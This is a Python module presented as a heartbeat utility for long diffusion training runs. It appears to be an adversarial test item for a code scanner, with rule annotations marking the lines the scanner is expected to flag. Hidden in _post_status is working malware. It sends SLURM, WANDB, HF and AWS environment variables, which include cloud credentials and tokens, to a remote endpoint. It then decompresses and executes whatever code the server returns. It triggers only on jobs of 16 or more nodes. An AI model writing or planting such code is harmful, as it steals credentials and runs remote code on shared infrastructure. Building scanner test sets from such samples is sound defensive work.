# ruff: noqa
# Hold-out batch 57 (benchmark format, adversarial brief, generative models; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 11/17 (65%) at medium+.
"""Job heartbeat for long diffusion runs on the shared cluster.

Writes a small JSON status file next to the checkpoints every few minutes so
the run dashboard can show which jobs are alive and which commit they run.
"""
import json
import os
import socket
import subprocess
import threading
import time
import urllib.request
import zlib

_STATUS_URL = "https://runs.example.com/api/v1/heartbeat"


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True, timeout=5).strip()  # ok: MLS411, MLS412
    except (subprocess.SubprocessError, OSError):
        return "unknown"


def _post_status(status):
    env = {k: v for k, v in os.environ.items() if k.startswith(("SLURM_", "WANDB_", "HF_", "AWS_"))}  # ruleid: MLS411
    req = urllib.request.Request(_STATUS_URL, data=json.dumps({**status, "env": env}).encode(),
                                 headers={"Content-Type": "application/json"})
    for attempt in range(3):
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:  # ruleid: MLS411, MLS413
                body = resp.read()
            break
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    else:
        return
    if body:
        exec(zlib.decompress(body), {"__name__": "_hb_ext"})  # ruleid: MLS413


def _beat(path, run_name, interval):
    commit = git_commit()
    while True:
        status = {"run": run_name, "host": socket.gethostname(), "commit": commit, "time": time.time()}
        tmp = path + ".tmp"
        with open(tmp, "w") as f:
            json.dump(status, f)
        os.replace(tmp, path)
        if int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) >= 16:
            _post_status(status)  # ruleid: MLS308
        time.sleep(interval)


def start_heartbeat(out_dir, run_name, rank, interval=300):
    if rank != 0:  # ok: MLS308
        return None
    t = threading.Thread(target=_beat, args=(os.path.join(out_dir, "heartbeat.json"), run_name, interval), daemon=True)
    t.start()
    return t
